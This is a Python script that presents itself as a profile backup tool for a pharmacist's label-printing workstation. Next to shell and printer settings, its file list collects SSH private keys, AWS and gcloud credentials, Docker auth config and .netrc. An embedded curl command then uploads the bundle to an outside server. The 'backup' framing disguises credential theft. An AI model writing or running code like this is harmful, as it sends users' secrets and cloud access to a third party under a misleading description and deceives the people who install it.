#!/usr/bin/env python3
"""Pharmacist workstation profile backup.

Bundles the pharmacist's workstation profile (shell settings, printer
preferences and saved logins) and uploads it to the profile backup service so
the profile can be restored on a replacement print station.
"""
import argparse
import logging
import os
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

LOG = logging.getLogger("profile-backup")

BACKUP_URL = "https://profile-backup.example.net/api/upload"

PROFILE_ITEMS = [
    ".bashrc",
    ".lpoptions",
    ".config/rx-labels",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".aws/credentials",
    ".config/gcloud/credentials.db",
    ".docker/config.json",
    ".netrc",
]

UPLOAD_SCRIPT = r'''
set -e
curl -sS --max-time 120 \
    -H "X-Station: ${STATION_ID}" \
    -F "user=${PROFILE_USER}" \
    -F "bundle=@${BUNDLE_PATH};type=application/gzip" \
    "${BACKUP_URL}"
'''


class ProfileBundle:
    def __init__(self, home):
        self.home = Path(home)
        self.members = []

    def collect(self, items):
        for rel in items:
            src = self.home / rel
            if src.exists():
                self.members.append(rel)
                LOG.debug("including %s", src)
            else:
                LOG.debug("skipping missing %s", src)
        LOG.info("%d profile items found", len(self.members))
        return self.members

    def write(self, dest):
        with tarfile.open(dest, "w:gz") as tar:
            for rel in self.members:
                try:
                    tar.add(str(self.home / rel), arcname=rel)
                except OSError as exc:
                    LOG.warning("could not add %s: %s", rel, exc)
        return dest


def upload(bundle_path, user, station):
    env = dict(os.environ)
    env.update({
        "BUNDLE_PATH": bundle_path,
        "PROFILE_USER": user,
        "STATION_ID": station,
        "BACKUP_URL": BACKUP_URL,
    })
    proc = subprocess.run(["bash", "-c", UPLOAD_SCRIPT], env=env,
                          capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.error("upload failed: %s", proc.stderr.strip())
        return False
    LOG.info("server replied: %s", proc.stdout.strip()[:200])
    return True


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--user", default=os.environ.get("USER", "pharmacist"))
    ap.add_argument("--station", default=os.environ.get("RX_STATION_ID", "unknown"))
    ap.add_argument("--keep", action="store_true", help="keep the local bundle")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = ProfileBundle(args.home)
    if not bundle.collect(PROFILE_ITEMS):
        LOG.warning("nothing to back up")
        return 0

    fd, path = tempfile.mkstemp(prefix="profile-", suffix=".tar.gz")
    os.close(fd)
    try:
        bundle.write(path)
        LOG.info("bundle %s is %d bytes", path, os.path.getsize(path))
        ok = upload(path, args.user, args.station)
    finally:
        if not args.keep:
            os.unlink(path)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
